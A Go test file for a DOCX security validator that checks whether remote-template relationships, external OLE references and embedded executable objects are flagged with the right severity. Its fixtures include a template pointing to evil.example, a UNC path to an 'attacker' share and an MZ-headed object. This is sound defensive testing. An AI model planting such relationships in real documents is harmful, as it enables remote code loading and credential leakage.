package validators

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/docgate/docgate/internal/types"
)

const settingsRelsRemoteTemplate = `<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
  <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/>
</Relationships>`

func TestEmbedded_BenignDocument(t *testing.T) {
	a := buildArtifact(t, benignParts())
	fs, err := (&Embedded{}).Run(context.Background(), a)
	require.NoError(t, err)
	assert.Empty(t, fs)
}

func TestEmbedded_RemoteTemplate(t *testing.T) {
	parts := append(benignParts(),
		docxPart{"word/settings.xml", []byte("<w:settings/>")},
		docxPart{"word/_rels/settings.xml.rels", []byte(settingsRelsRemoteTemplate)},
	)
	a := buildArtifact(t, parts)

	fs, err := (&Embedded{}).Run(context.Background(), a)
	require.NoError(t, err)

	codes := findingCodes(fs)
	assert.Contains(t, codes, "remote_template")
	// The same relationship also trips the generic external scan.
	assert.Contains(t, codes, "remote_reference")
	for _, f := range fs {
		if f.Code == "remote_template" {
			assert.Equal(t, types.SevCritical, f.Severity)
			assert.Equal(t, "http://evil.example/template.dotm", f.Evidence)
		}
	}
}

func TestEmbedded_RemoteReference(t *testing.T) {
	parts := withPart(benignParts(), "word/_rels/document.xml.rels", `<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
  <Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\attacker\share\x.ole" TargetMode="External"/>
</Relationships>`)
	a := buildArtifact(t, parts)

	fs, err := (&Embedded{}).Run(context.Background(), a)
	require.NoError(t, err)
	require.Len(t, fs, 1)
	assert.Equal(t, "remote_reference", fs[0].Code)
	assert.Equal(t, types.SevHigh, fs[0].Severity)
}

func TestEmbedded_HyperlinksAreAllowed(t *testing.T) {
	parts := withPart(benignParts(), "word/_rels/document.xml.rels", `<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
  <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/help" TargetMode="External"/>
</Relationships>`)
	a := buildArtifact(t, parts)

	fs, err := (&Embedded{}).Run(context.Background(), a)
	require.NoError(t, err)
	assert.Empty(t, fs)
}

func TestEmbedded_ObjectSeverityByContentType(t *testing.T) {
	ct := `<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
  <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
  <Default Extension="xml" ContentType="application/xml"/>
  <Override PartName="/word/embeddings/evil.bin" ContentType="application/x-msdownload"/>
  <Override PartName="/word/embeddings/sheet1.bin" ContentType="application/vnd.ms-excel"/>
</Types>`
	parts := withPart(benignParts(), "[Content_Types].xml", ct)
	parts = append(parts,
		docxPart{"word/embeddings/evil.bin", []byte{0x4d, 0x5a}},
		docxPart{"word/embeddings/sheet1.bin", []byte{0xD0, 0xCF}},
	)
	a := buildArtifact(t, parts)

	fs, err := (&Embedded{}).Run(context.Background(), a)
	require.NoError(t, err)

	sev := map[string]types.Severity{}
	for _, f := range fs {
		require.Equal(t, "embedded_object", f.Code)
		sev[f.Part] = f.Severity
	}
	assert.Equal(t, types.SevCritical, sev["word/embeddings/evil.bin"])
	assert.Equal(t, types.SevMedium, sev["word/embeddings/sheet1.bin"])
}

func TestEmbedded_CorruptRelsDoesNotSuppressObjects(t *testing.T) {
	parts := withPart(benignParts(), "word/_rels/document.xml.rels", "<Relationships garbage")
	parts = append(parts, docxPart{"word/embeddings/oleObject1.bin", []byte{0xD0, 0xCF}})
	a := buildArtifact(t, parts)

	fs, err := (&Embedded{}).Run(context.Background(), a)
	// The rels vector errored, but the validator still reports the
	// embedded object finding.
	assert.Error(t, err)
	assert.Contains(t, findingCodes(fs), "embedded_object")
}
